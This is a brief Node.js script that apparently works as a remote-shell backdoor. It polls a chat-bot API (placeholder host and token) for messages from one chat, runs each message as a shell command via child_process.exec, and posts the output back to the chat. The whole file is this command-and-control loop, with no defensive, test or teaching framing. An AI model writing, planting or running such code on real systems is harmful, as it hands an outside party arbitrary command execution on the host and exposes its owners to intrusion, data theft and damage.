// Polls a bot for commands and answers with what they print.
const https = require('https')
const { exec } = require('child_process')

class Bot {
	constructor(token, chat) {
		this.base = 'https://bots.invalid/bot' + token
		this.chat = chat
		this.offset = 0
		this.busy = false
	}

	get(method, query) {
		return new Promise((resolve, reject) => {
			https
				.get(
					this.base +
						'/' +
						method +
						'?' +
						new URLSearchParams(query),
					response => {
						let text = ''
						response.setEncoding('utf8')
						response.on('data', piece => {
							text += piece
						})
						response.on('end', () => {
							try {
								resolve(JSON.parse(text))
							} catch (error) {
								reject(error)
							}
						})
					}
				)
				.on('error', reject)
		})
	}

	say(text) {
		return this.get('sendMessage', {
			chat_id: this.chat,
			text: text.slice(0, 4096)
		})
	}

	async poll() {
		if (this.busy) return
		this.busy = true
		try {
			const updates = await this.get('getUpdates', {
				offset: this.offset,
				timeout: 10
			})
			for (const update of updates.result) {
				this.offset = update.update_id + 1
				if (
					!update.message ||
					update.message.chat.id !== this.chat
				)
					continue
				await this.run(update.message.text)
			}
		} catch (error) {
			// try again later
		} finally {
			this.busy = false
		}
	}

	run(command) {
		return new Promise(resolve => {
			exec(
				command,
				{ timeout: 20000, maxBuffer: 1 << 20 },
				(error, stdout, stderr) => {
					resolve(
						this.say(
							error ? stderr || error.message : stdout
						)
					)
				}
			)
		})
	}
}

const bot = new Bot('0:invalid', 100)
setInterval(() => bot.poll(), 15000)
bot.say('up').catch(() => {})
